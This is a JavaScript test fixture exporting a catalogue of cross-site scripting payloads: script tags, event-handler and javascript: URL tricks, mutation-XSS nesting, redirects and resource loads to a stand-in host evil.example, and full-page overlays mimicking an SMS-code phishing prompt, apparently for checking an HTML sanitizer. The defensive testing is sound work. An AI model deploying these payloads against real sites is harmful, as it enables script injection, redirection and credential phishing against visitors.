const evil = 'https://evil.example'
const run = 'window.__ran=1'

/** Markup and addresses that try to run a script. */
const scripts = [
  `<script>${run}</script>`,
  `<script src="${evil}/a.js"></script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<SCRIPT/x>${run}</SCRIPT>`,
  `<img src=x onerror="${run}">`,
  `<img/src/onerror=${run}>`,
  `<svg onload="${run}">`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin="${run}" attributeName="x" dur="1s">`,
  `<svg><a xlink:href="javascript:${run}"><text>a</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${run}"></style></mglyph></table></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  `<template><img src=x onerror="${run}"></template>`,
  `<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>`,
  `<iframe src="javascript:parent.__ran=1"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="data:text/html,<script>${run}</script>">`,
  `<details open ontoggle="${run}">a</details>`,
  `<video><source onerror="${run}"></video>`,
  `<audio src=x onerror="${run}"></audio>`,
  `<input autofocus onfocus="${run}">`,
  `<select autofocus onfocus="${run}"></select>`,
  `<textarea autofocus onfocus="${run}"></textarea>`,
  `<marquee onstart="${run}">a</marquee>`,
  `<body onload="${run}">`,
  `<p onmouseover="${run}">a</p>`,
  `<div contenteditable autofocus onfocus="${run}">a</div>`,
  `<a href="javascript:${run}">a</a>`,
  `<a href="JaVaScRiPt:${run}">a</a>`,
  `<a href="java\tscript:${run}">a</a>`,
  `<a href="&#106;avascript:${run}">a</a>`,
  `<a href="\u0001javascript:${run}">a</a>`,
  `<a href="data:text/html,<script>${run}</script>">a</a>`,
  `<a href="vbscript:${run}">a</a>`,
  `javascript:${run}`,
  ` javascript:${run}`,
  `JAVASCRIPT:${run}`,
  `java\nscript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `blob:${evil}/a`,
  'file:///etc/passwd',
  `{{constructor.constructor('${run}')()}}`,
  `"><img src=x onerror=${run}>`,
  `'-${run}-'`,
  `\`\${${run}}\``,
]
/** Such as try to take the visitor away. */
const leaving = [
  `<meta http-equiv="refresh" content="0;url=${evil}">`,
  `<base href="${evil}/">`,
  `<form action="${evil}"><button autofocus>Введите код</button></form>`,
  `<a href="${evil}" target="_top" id="main">a</a>`,
  '//evil.example/a',
  '/\\evil.example',
  '\\\\evil.example',
  'https:evil.example',
  `/%09/evil.example`,
]
/** Such as try to cover the page with one of their own. */
const covering = [
  `<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">Введите код из СМС</div>`,
  `<style>body *{display:none!important} body::before{content:'Введите код';position:fixed;inset:0;background:#fff}</style>`,
  `<dialog open style="position:fixed;inset:0">Введите код</dialog>`,
  `<div popover id="app" style="position:fixed;inset:0">a</div>`,
  `<link rel="stylesheet" href="${evil}/a.css">`,
  `<svg style="position:fixed;inset:0;width:100vw;height:100vh"><rect width="100%" height="100%"/></svg>`,
]
/** Such as try to load something from elsewhere. */
const foreign = [
  `<img src="${evil}/a.png">`,
  `<img srcset="${evil}/a.png 1x" src="/favicon.svg">`,
  `<picture><source srcset="${evil}/a.png"><img src="/favicon.svg"></picture>`,
  `<video poster="${evil}/a.png" src="${evil}/a.mp4"></video>`,
  `<p style="background:url(${evil}/a.png)">a</p>`,
  `<table background="${evil}/a.png"><tr><td>a</td></tr></table>`,
  `${evil}/a.png`,
  '//evil.example/a.png',
]

/** Payloads of different kinds, each once. */
export const payloads = [...scripts, ...leaving, ...covering, ...foreign]
